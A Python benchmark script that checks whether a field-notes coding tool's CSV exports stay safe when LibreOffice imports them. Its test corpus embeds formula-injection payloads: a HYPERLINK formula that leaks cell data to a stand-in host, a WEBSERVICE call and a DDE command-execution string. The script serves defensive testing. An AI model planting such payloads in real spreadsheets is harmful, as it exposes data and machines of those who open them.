"""Count the cells of fieldnotes' CSV files that a real LibreOffice imports as live formulas.

Usage: python benchmarks/reliability/csv_formulas_libreoffice.py [--keep DIR] [--examples N]

A small hostile corpus (field notes under nagoya/ and osaka/ whose paragraphs, headings and
file names start with formula payloads such as =HYPERLINK(...), +SUM(1,2), -2+3, @SUM(1),
=WEBSERVICE(...) or a tab) is coded with `fieldnotes code` (themes off). Every suggestion is
then accepted through the review spreadsheet with a hostile --coder and hostile notes, so
the coder and memo columns carry payloads too. The script converts OUT/excerpts.csv,
OUT/passages.csv, `fieldnotes export --format csv` and the same with --raw to xlsx with
`soffice --headless --convert-to xlsx` (LibreOffice's default CSV import), and counts with
openpyxl the cells stored as formulas.

Expected: 0 formula cells in every default output; the --raw export shows formulas, which
proves the measurement can see them. Needs `soffice` on PATH (skipped otherwise); run it
with the project's venv active and HF_HUB_OFFLINE=1.
"""

from __future__ import annotations

import argparse
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

HYPERLINK = '=HYPERLINK("http://example.invalid/leak?d="&A2,"click")'
WEBSERVICE = '=WEBSERVICE("http://example.invalid")'
PAYLOADS = (HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(1)", WEBSERVICE, "\t=SUM(1,2)")

PROSE = (
    "volunteers from the han group made home visits to elderly cooperative members every week, "
    "and the nurses said the visiting volunteers noticed changes in health long before the clinic did.",
    "cooperative members ran the community salon themselves, planned the menu with the care "
    "workers and took turns driving residents who could no longer walk to the clinic.",
    "the board asked members and staff together how the new day service should be run, and "
    "volunteers joined the care workers in deciding the weekly programme.",
)

NAGOYA = f"""Home visits with Minami han volunteers, Nagoya, October 2024

{HYPERLINK} {PROSE[0]}

The han leader explained that volunteers and staff meet once a month to share what they saw on their home visits, and that members decide together which households need more support.

+SUM(1,2) {PROSE[1]}

-2+3 {PROSE[2]}

The interpreter added that the cooperative's members see the clinic as their own, because they paid in the capital and sit on the committees that run it.
"""

NAGOYA_MD = f"""# {WEBSERVICE}

@SUM(1) {PROSE[0]}

\t=SUM(1,2) {PROSE[1]}

## -2+3 salon notes

Members and care workers cooked lunch together at the salon, and volunteers kept a notebook of who was missing so that someone could visit them at home that afternoon.
"""

OSAKA = f"""Hanshin han meeting, Amagasaki, November 2024

{WEBSERVICE} {PROSE[2]}

In the neighbourhood hall the members compared notes from their home visits and agreed that volunteers would phone the clinic nurses when a resident seemed unwell.

@SUM(1) {PROSE[0]}

=cmd|' /C calc'!A0 {PROSE[1]}
"""

ROOT = f"""Joint visit notes

The Osaka team joined the Nagoya volunteers for a day of home visits, and cooperative members from both sites compared how they share the work of care with the clinic staff.

{HYPERLINK} {PROSE[1]}
"""

# The hostile values that reach the coder and memo columns (no tab: memos are whitespace-squeezed).
CODER = HYPERLINK
NOTES = ("+SUM(1,2)", "-2+3", "@SUM(1)", WEBSERVICE, HYPERLINK)


def build_corpus(root: Path) -> None:
    files = {
        "nagoya/2024-10-16_home-visits.txt": NAGOYA,
        "nagoya/=SUM(1,2) salon.md": NAGOYA_MD,
        "osaka/2024-11-20_han-meeting.txt": OSAKA,
        "-2+3 joint visit Nagoya.txt": ROOT,
    }
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def run(command: list[str | Path]) -> None:
    done = subprocess.run([str(part) for part in command], capture_output=True, text=True)
    if done.returncode != 0:
        sys.exit(f"failed ({done.returncode}): {' '.join(map(str, command))}\n{done.stdout}{done.stderr}")


def fieldnotes_command() -> str:
    beside = Path(sys.executable).parent / "fieldnotes"
    found = str(beside) if beside.exists() else shutil.which("fieldnotes")
    if not found:
        sys.exit("fieldnotes is not installed: activate the project's venv")
    return found


def accept_everything(sheet_path: Path) -> int:
    """Fill the review spreadsheet: accept every row, with hostile notes."""
    from openpyxl import load_workbook

    workbook = load_workbook(sheet_path)
    sheet = workbook["Excerpts"]
    header = [cell.value for cell in sheet[1]]
    decision, notes = header.index("decision") + 1, header.index("notes") + 1
    for row in range(2, sheet.max_row + 1):
        sheet.cell(row=row, column=decision, value="accept")
        cell = sheet.cell(row=row, column=notes, value=NOTES[row % len(NOTES)])
        cell.data_type = "s"  # a note is text, as a reviewer typing it would leave it
    workbook.save(sheet_path)
    return sheet.max_row - 1


def count_formulas(xlsx: Path) -> tuple[int, int, list[str]]:
    """(rows, non-empty cells, formulas) of the first sheet."""
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx, data_only=False).worksheets[0]
    cells, formulas = 0, []
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            cells += 1
            if cell.data_type == "f":
                formulas.append(f"{cell.coordinate}: {cell.value!r}")
    return sheet.max_row, cells, formulas


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "--keep", type=Path, help="work in this new or empty folder and keep it (default: a temporary one)"
    )
    parser.add_argument("--examples", type=int, default=3, help="formula cells to show per file")
    args = parser.parse_args()
    soffice = shutil.which("soffice")
    if soffice is None:
        print("skipped: soffice (LibreOffice) is not on PATH; e.g. apt-get install libreoffice-calc-nogui")
        return 0
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="fieldnotes-lo-") as scratch:
        work = args.keep or Path(scratch)
        if args.keep and args.keep.exists() and any(args.keep.iterdir()):
            sys.exit(f"{args.keep} is not empty: give a new folder to --keep")
        corpus, out, converted = work / "corpus", work / "out", work / "xlsx"
        build_corpus(corpus)
        fieldnotes = fieldnotes_command()
        # The shipped settings with themes off (a file with [themes] alone would define no sites).
        settings = work / "settings.toml"
        run([fieldnotes, "settings", "init", settings])
        head, themes = settings.read_text(encoding="utf-8").split("\n[themes]\n", 1)
        themes = themes.replace("\nenabled = true\n", "\nenabled = false\n", 1)
        settings.write_text(f"{head}\n[themes]\n{themes}", encoding="utf-8")
        common = ["--out", out, "--settings", settings]
        run([fieldnotes, "code", corpus, *common, "-q"])
        sheet = work / "review.xlsx"
        run([fieldnotes, "export", "--format", "xlsx", "--status", "all", "-o", sheet, *common])
        accepted = accept_everything(sheet)
        run([fieldnotes, "import-decisions", sheet, "--coder", CODER, *common])
        export, raw = work / "export.csv", work / "export-raw.csv"
        run([fieldnotes, "export", "--format", "csv", "--status", "all", "-o", export, *common])
        run([fieldnotes, "export", "--format", "csv", "--status", "all", "--raw", "-o", raw, *common])
        csvs = [out / "excerpts.csv", out / "passages.csv", export, raw]
        labels = ["OUT/excerpts.csv", "OUT/passages.csv", "export csv", "export csv --raw"]
        profile = (work / "lo-profile").resolve().as_uri()  # never touch the user's own profile
        run(
            [
                soffice,
                f"-env:UserInstallation={profile}",
                "--headless",
                "--convert-to",
                "xlsx",
                "--outdir",
                converted,
                *csvs,
            ]
        )
        print(f"{accepted} suggestions accepted with hostile coder and notes")
        print(f"{'file':<28} {'rows':>6} {'cells':>7} {'formulas':>9}")
        for path, label in zip(csvs, labels, strict=True):
            rows, cells, formulas = count_formulas(converted / f"{path.stem}.xlsx")
            print(f"{label:<28} {rows:>6} {cells:>7} {len(formulas):>9}")
            for example in formulas[: args.examples]:
                print(f"    {example}")
    print(f"wall time {time.perf_counter() - started:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
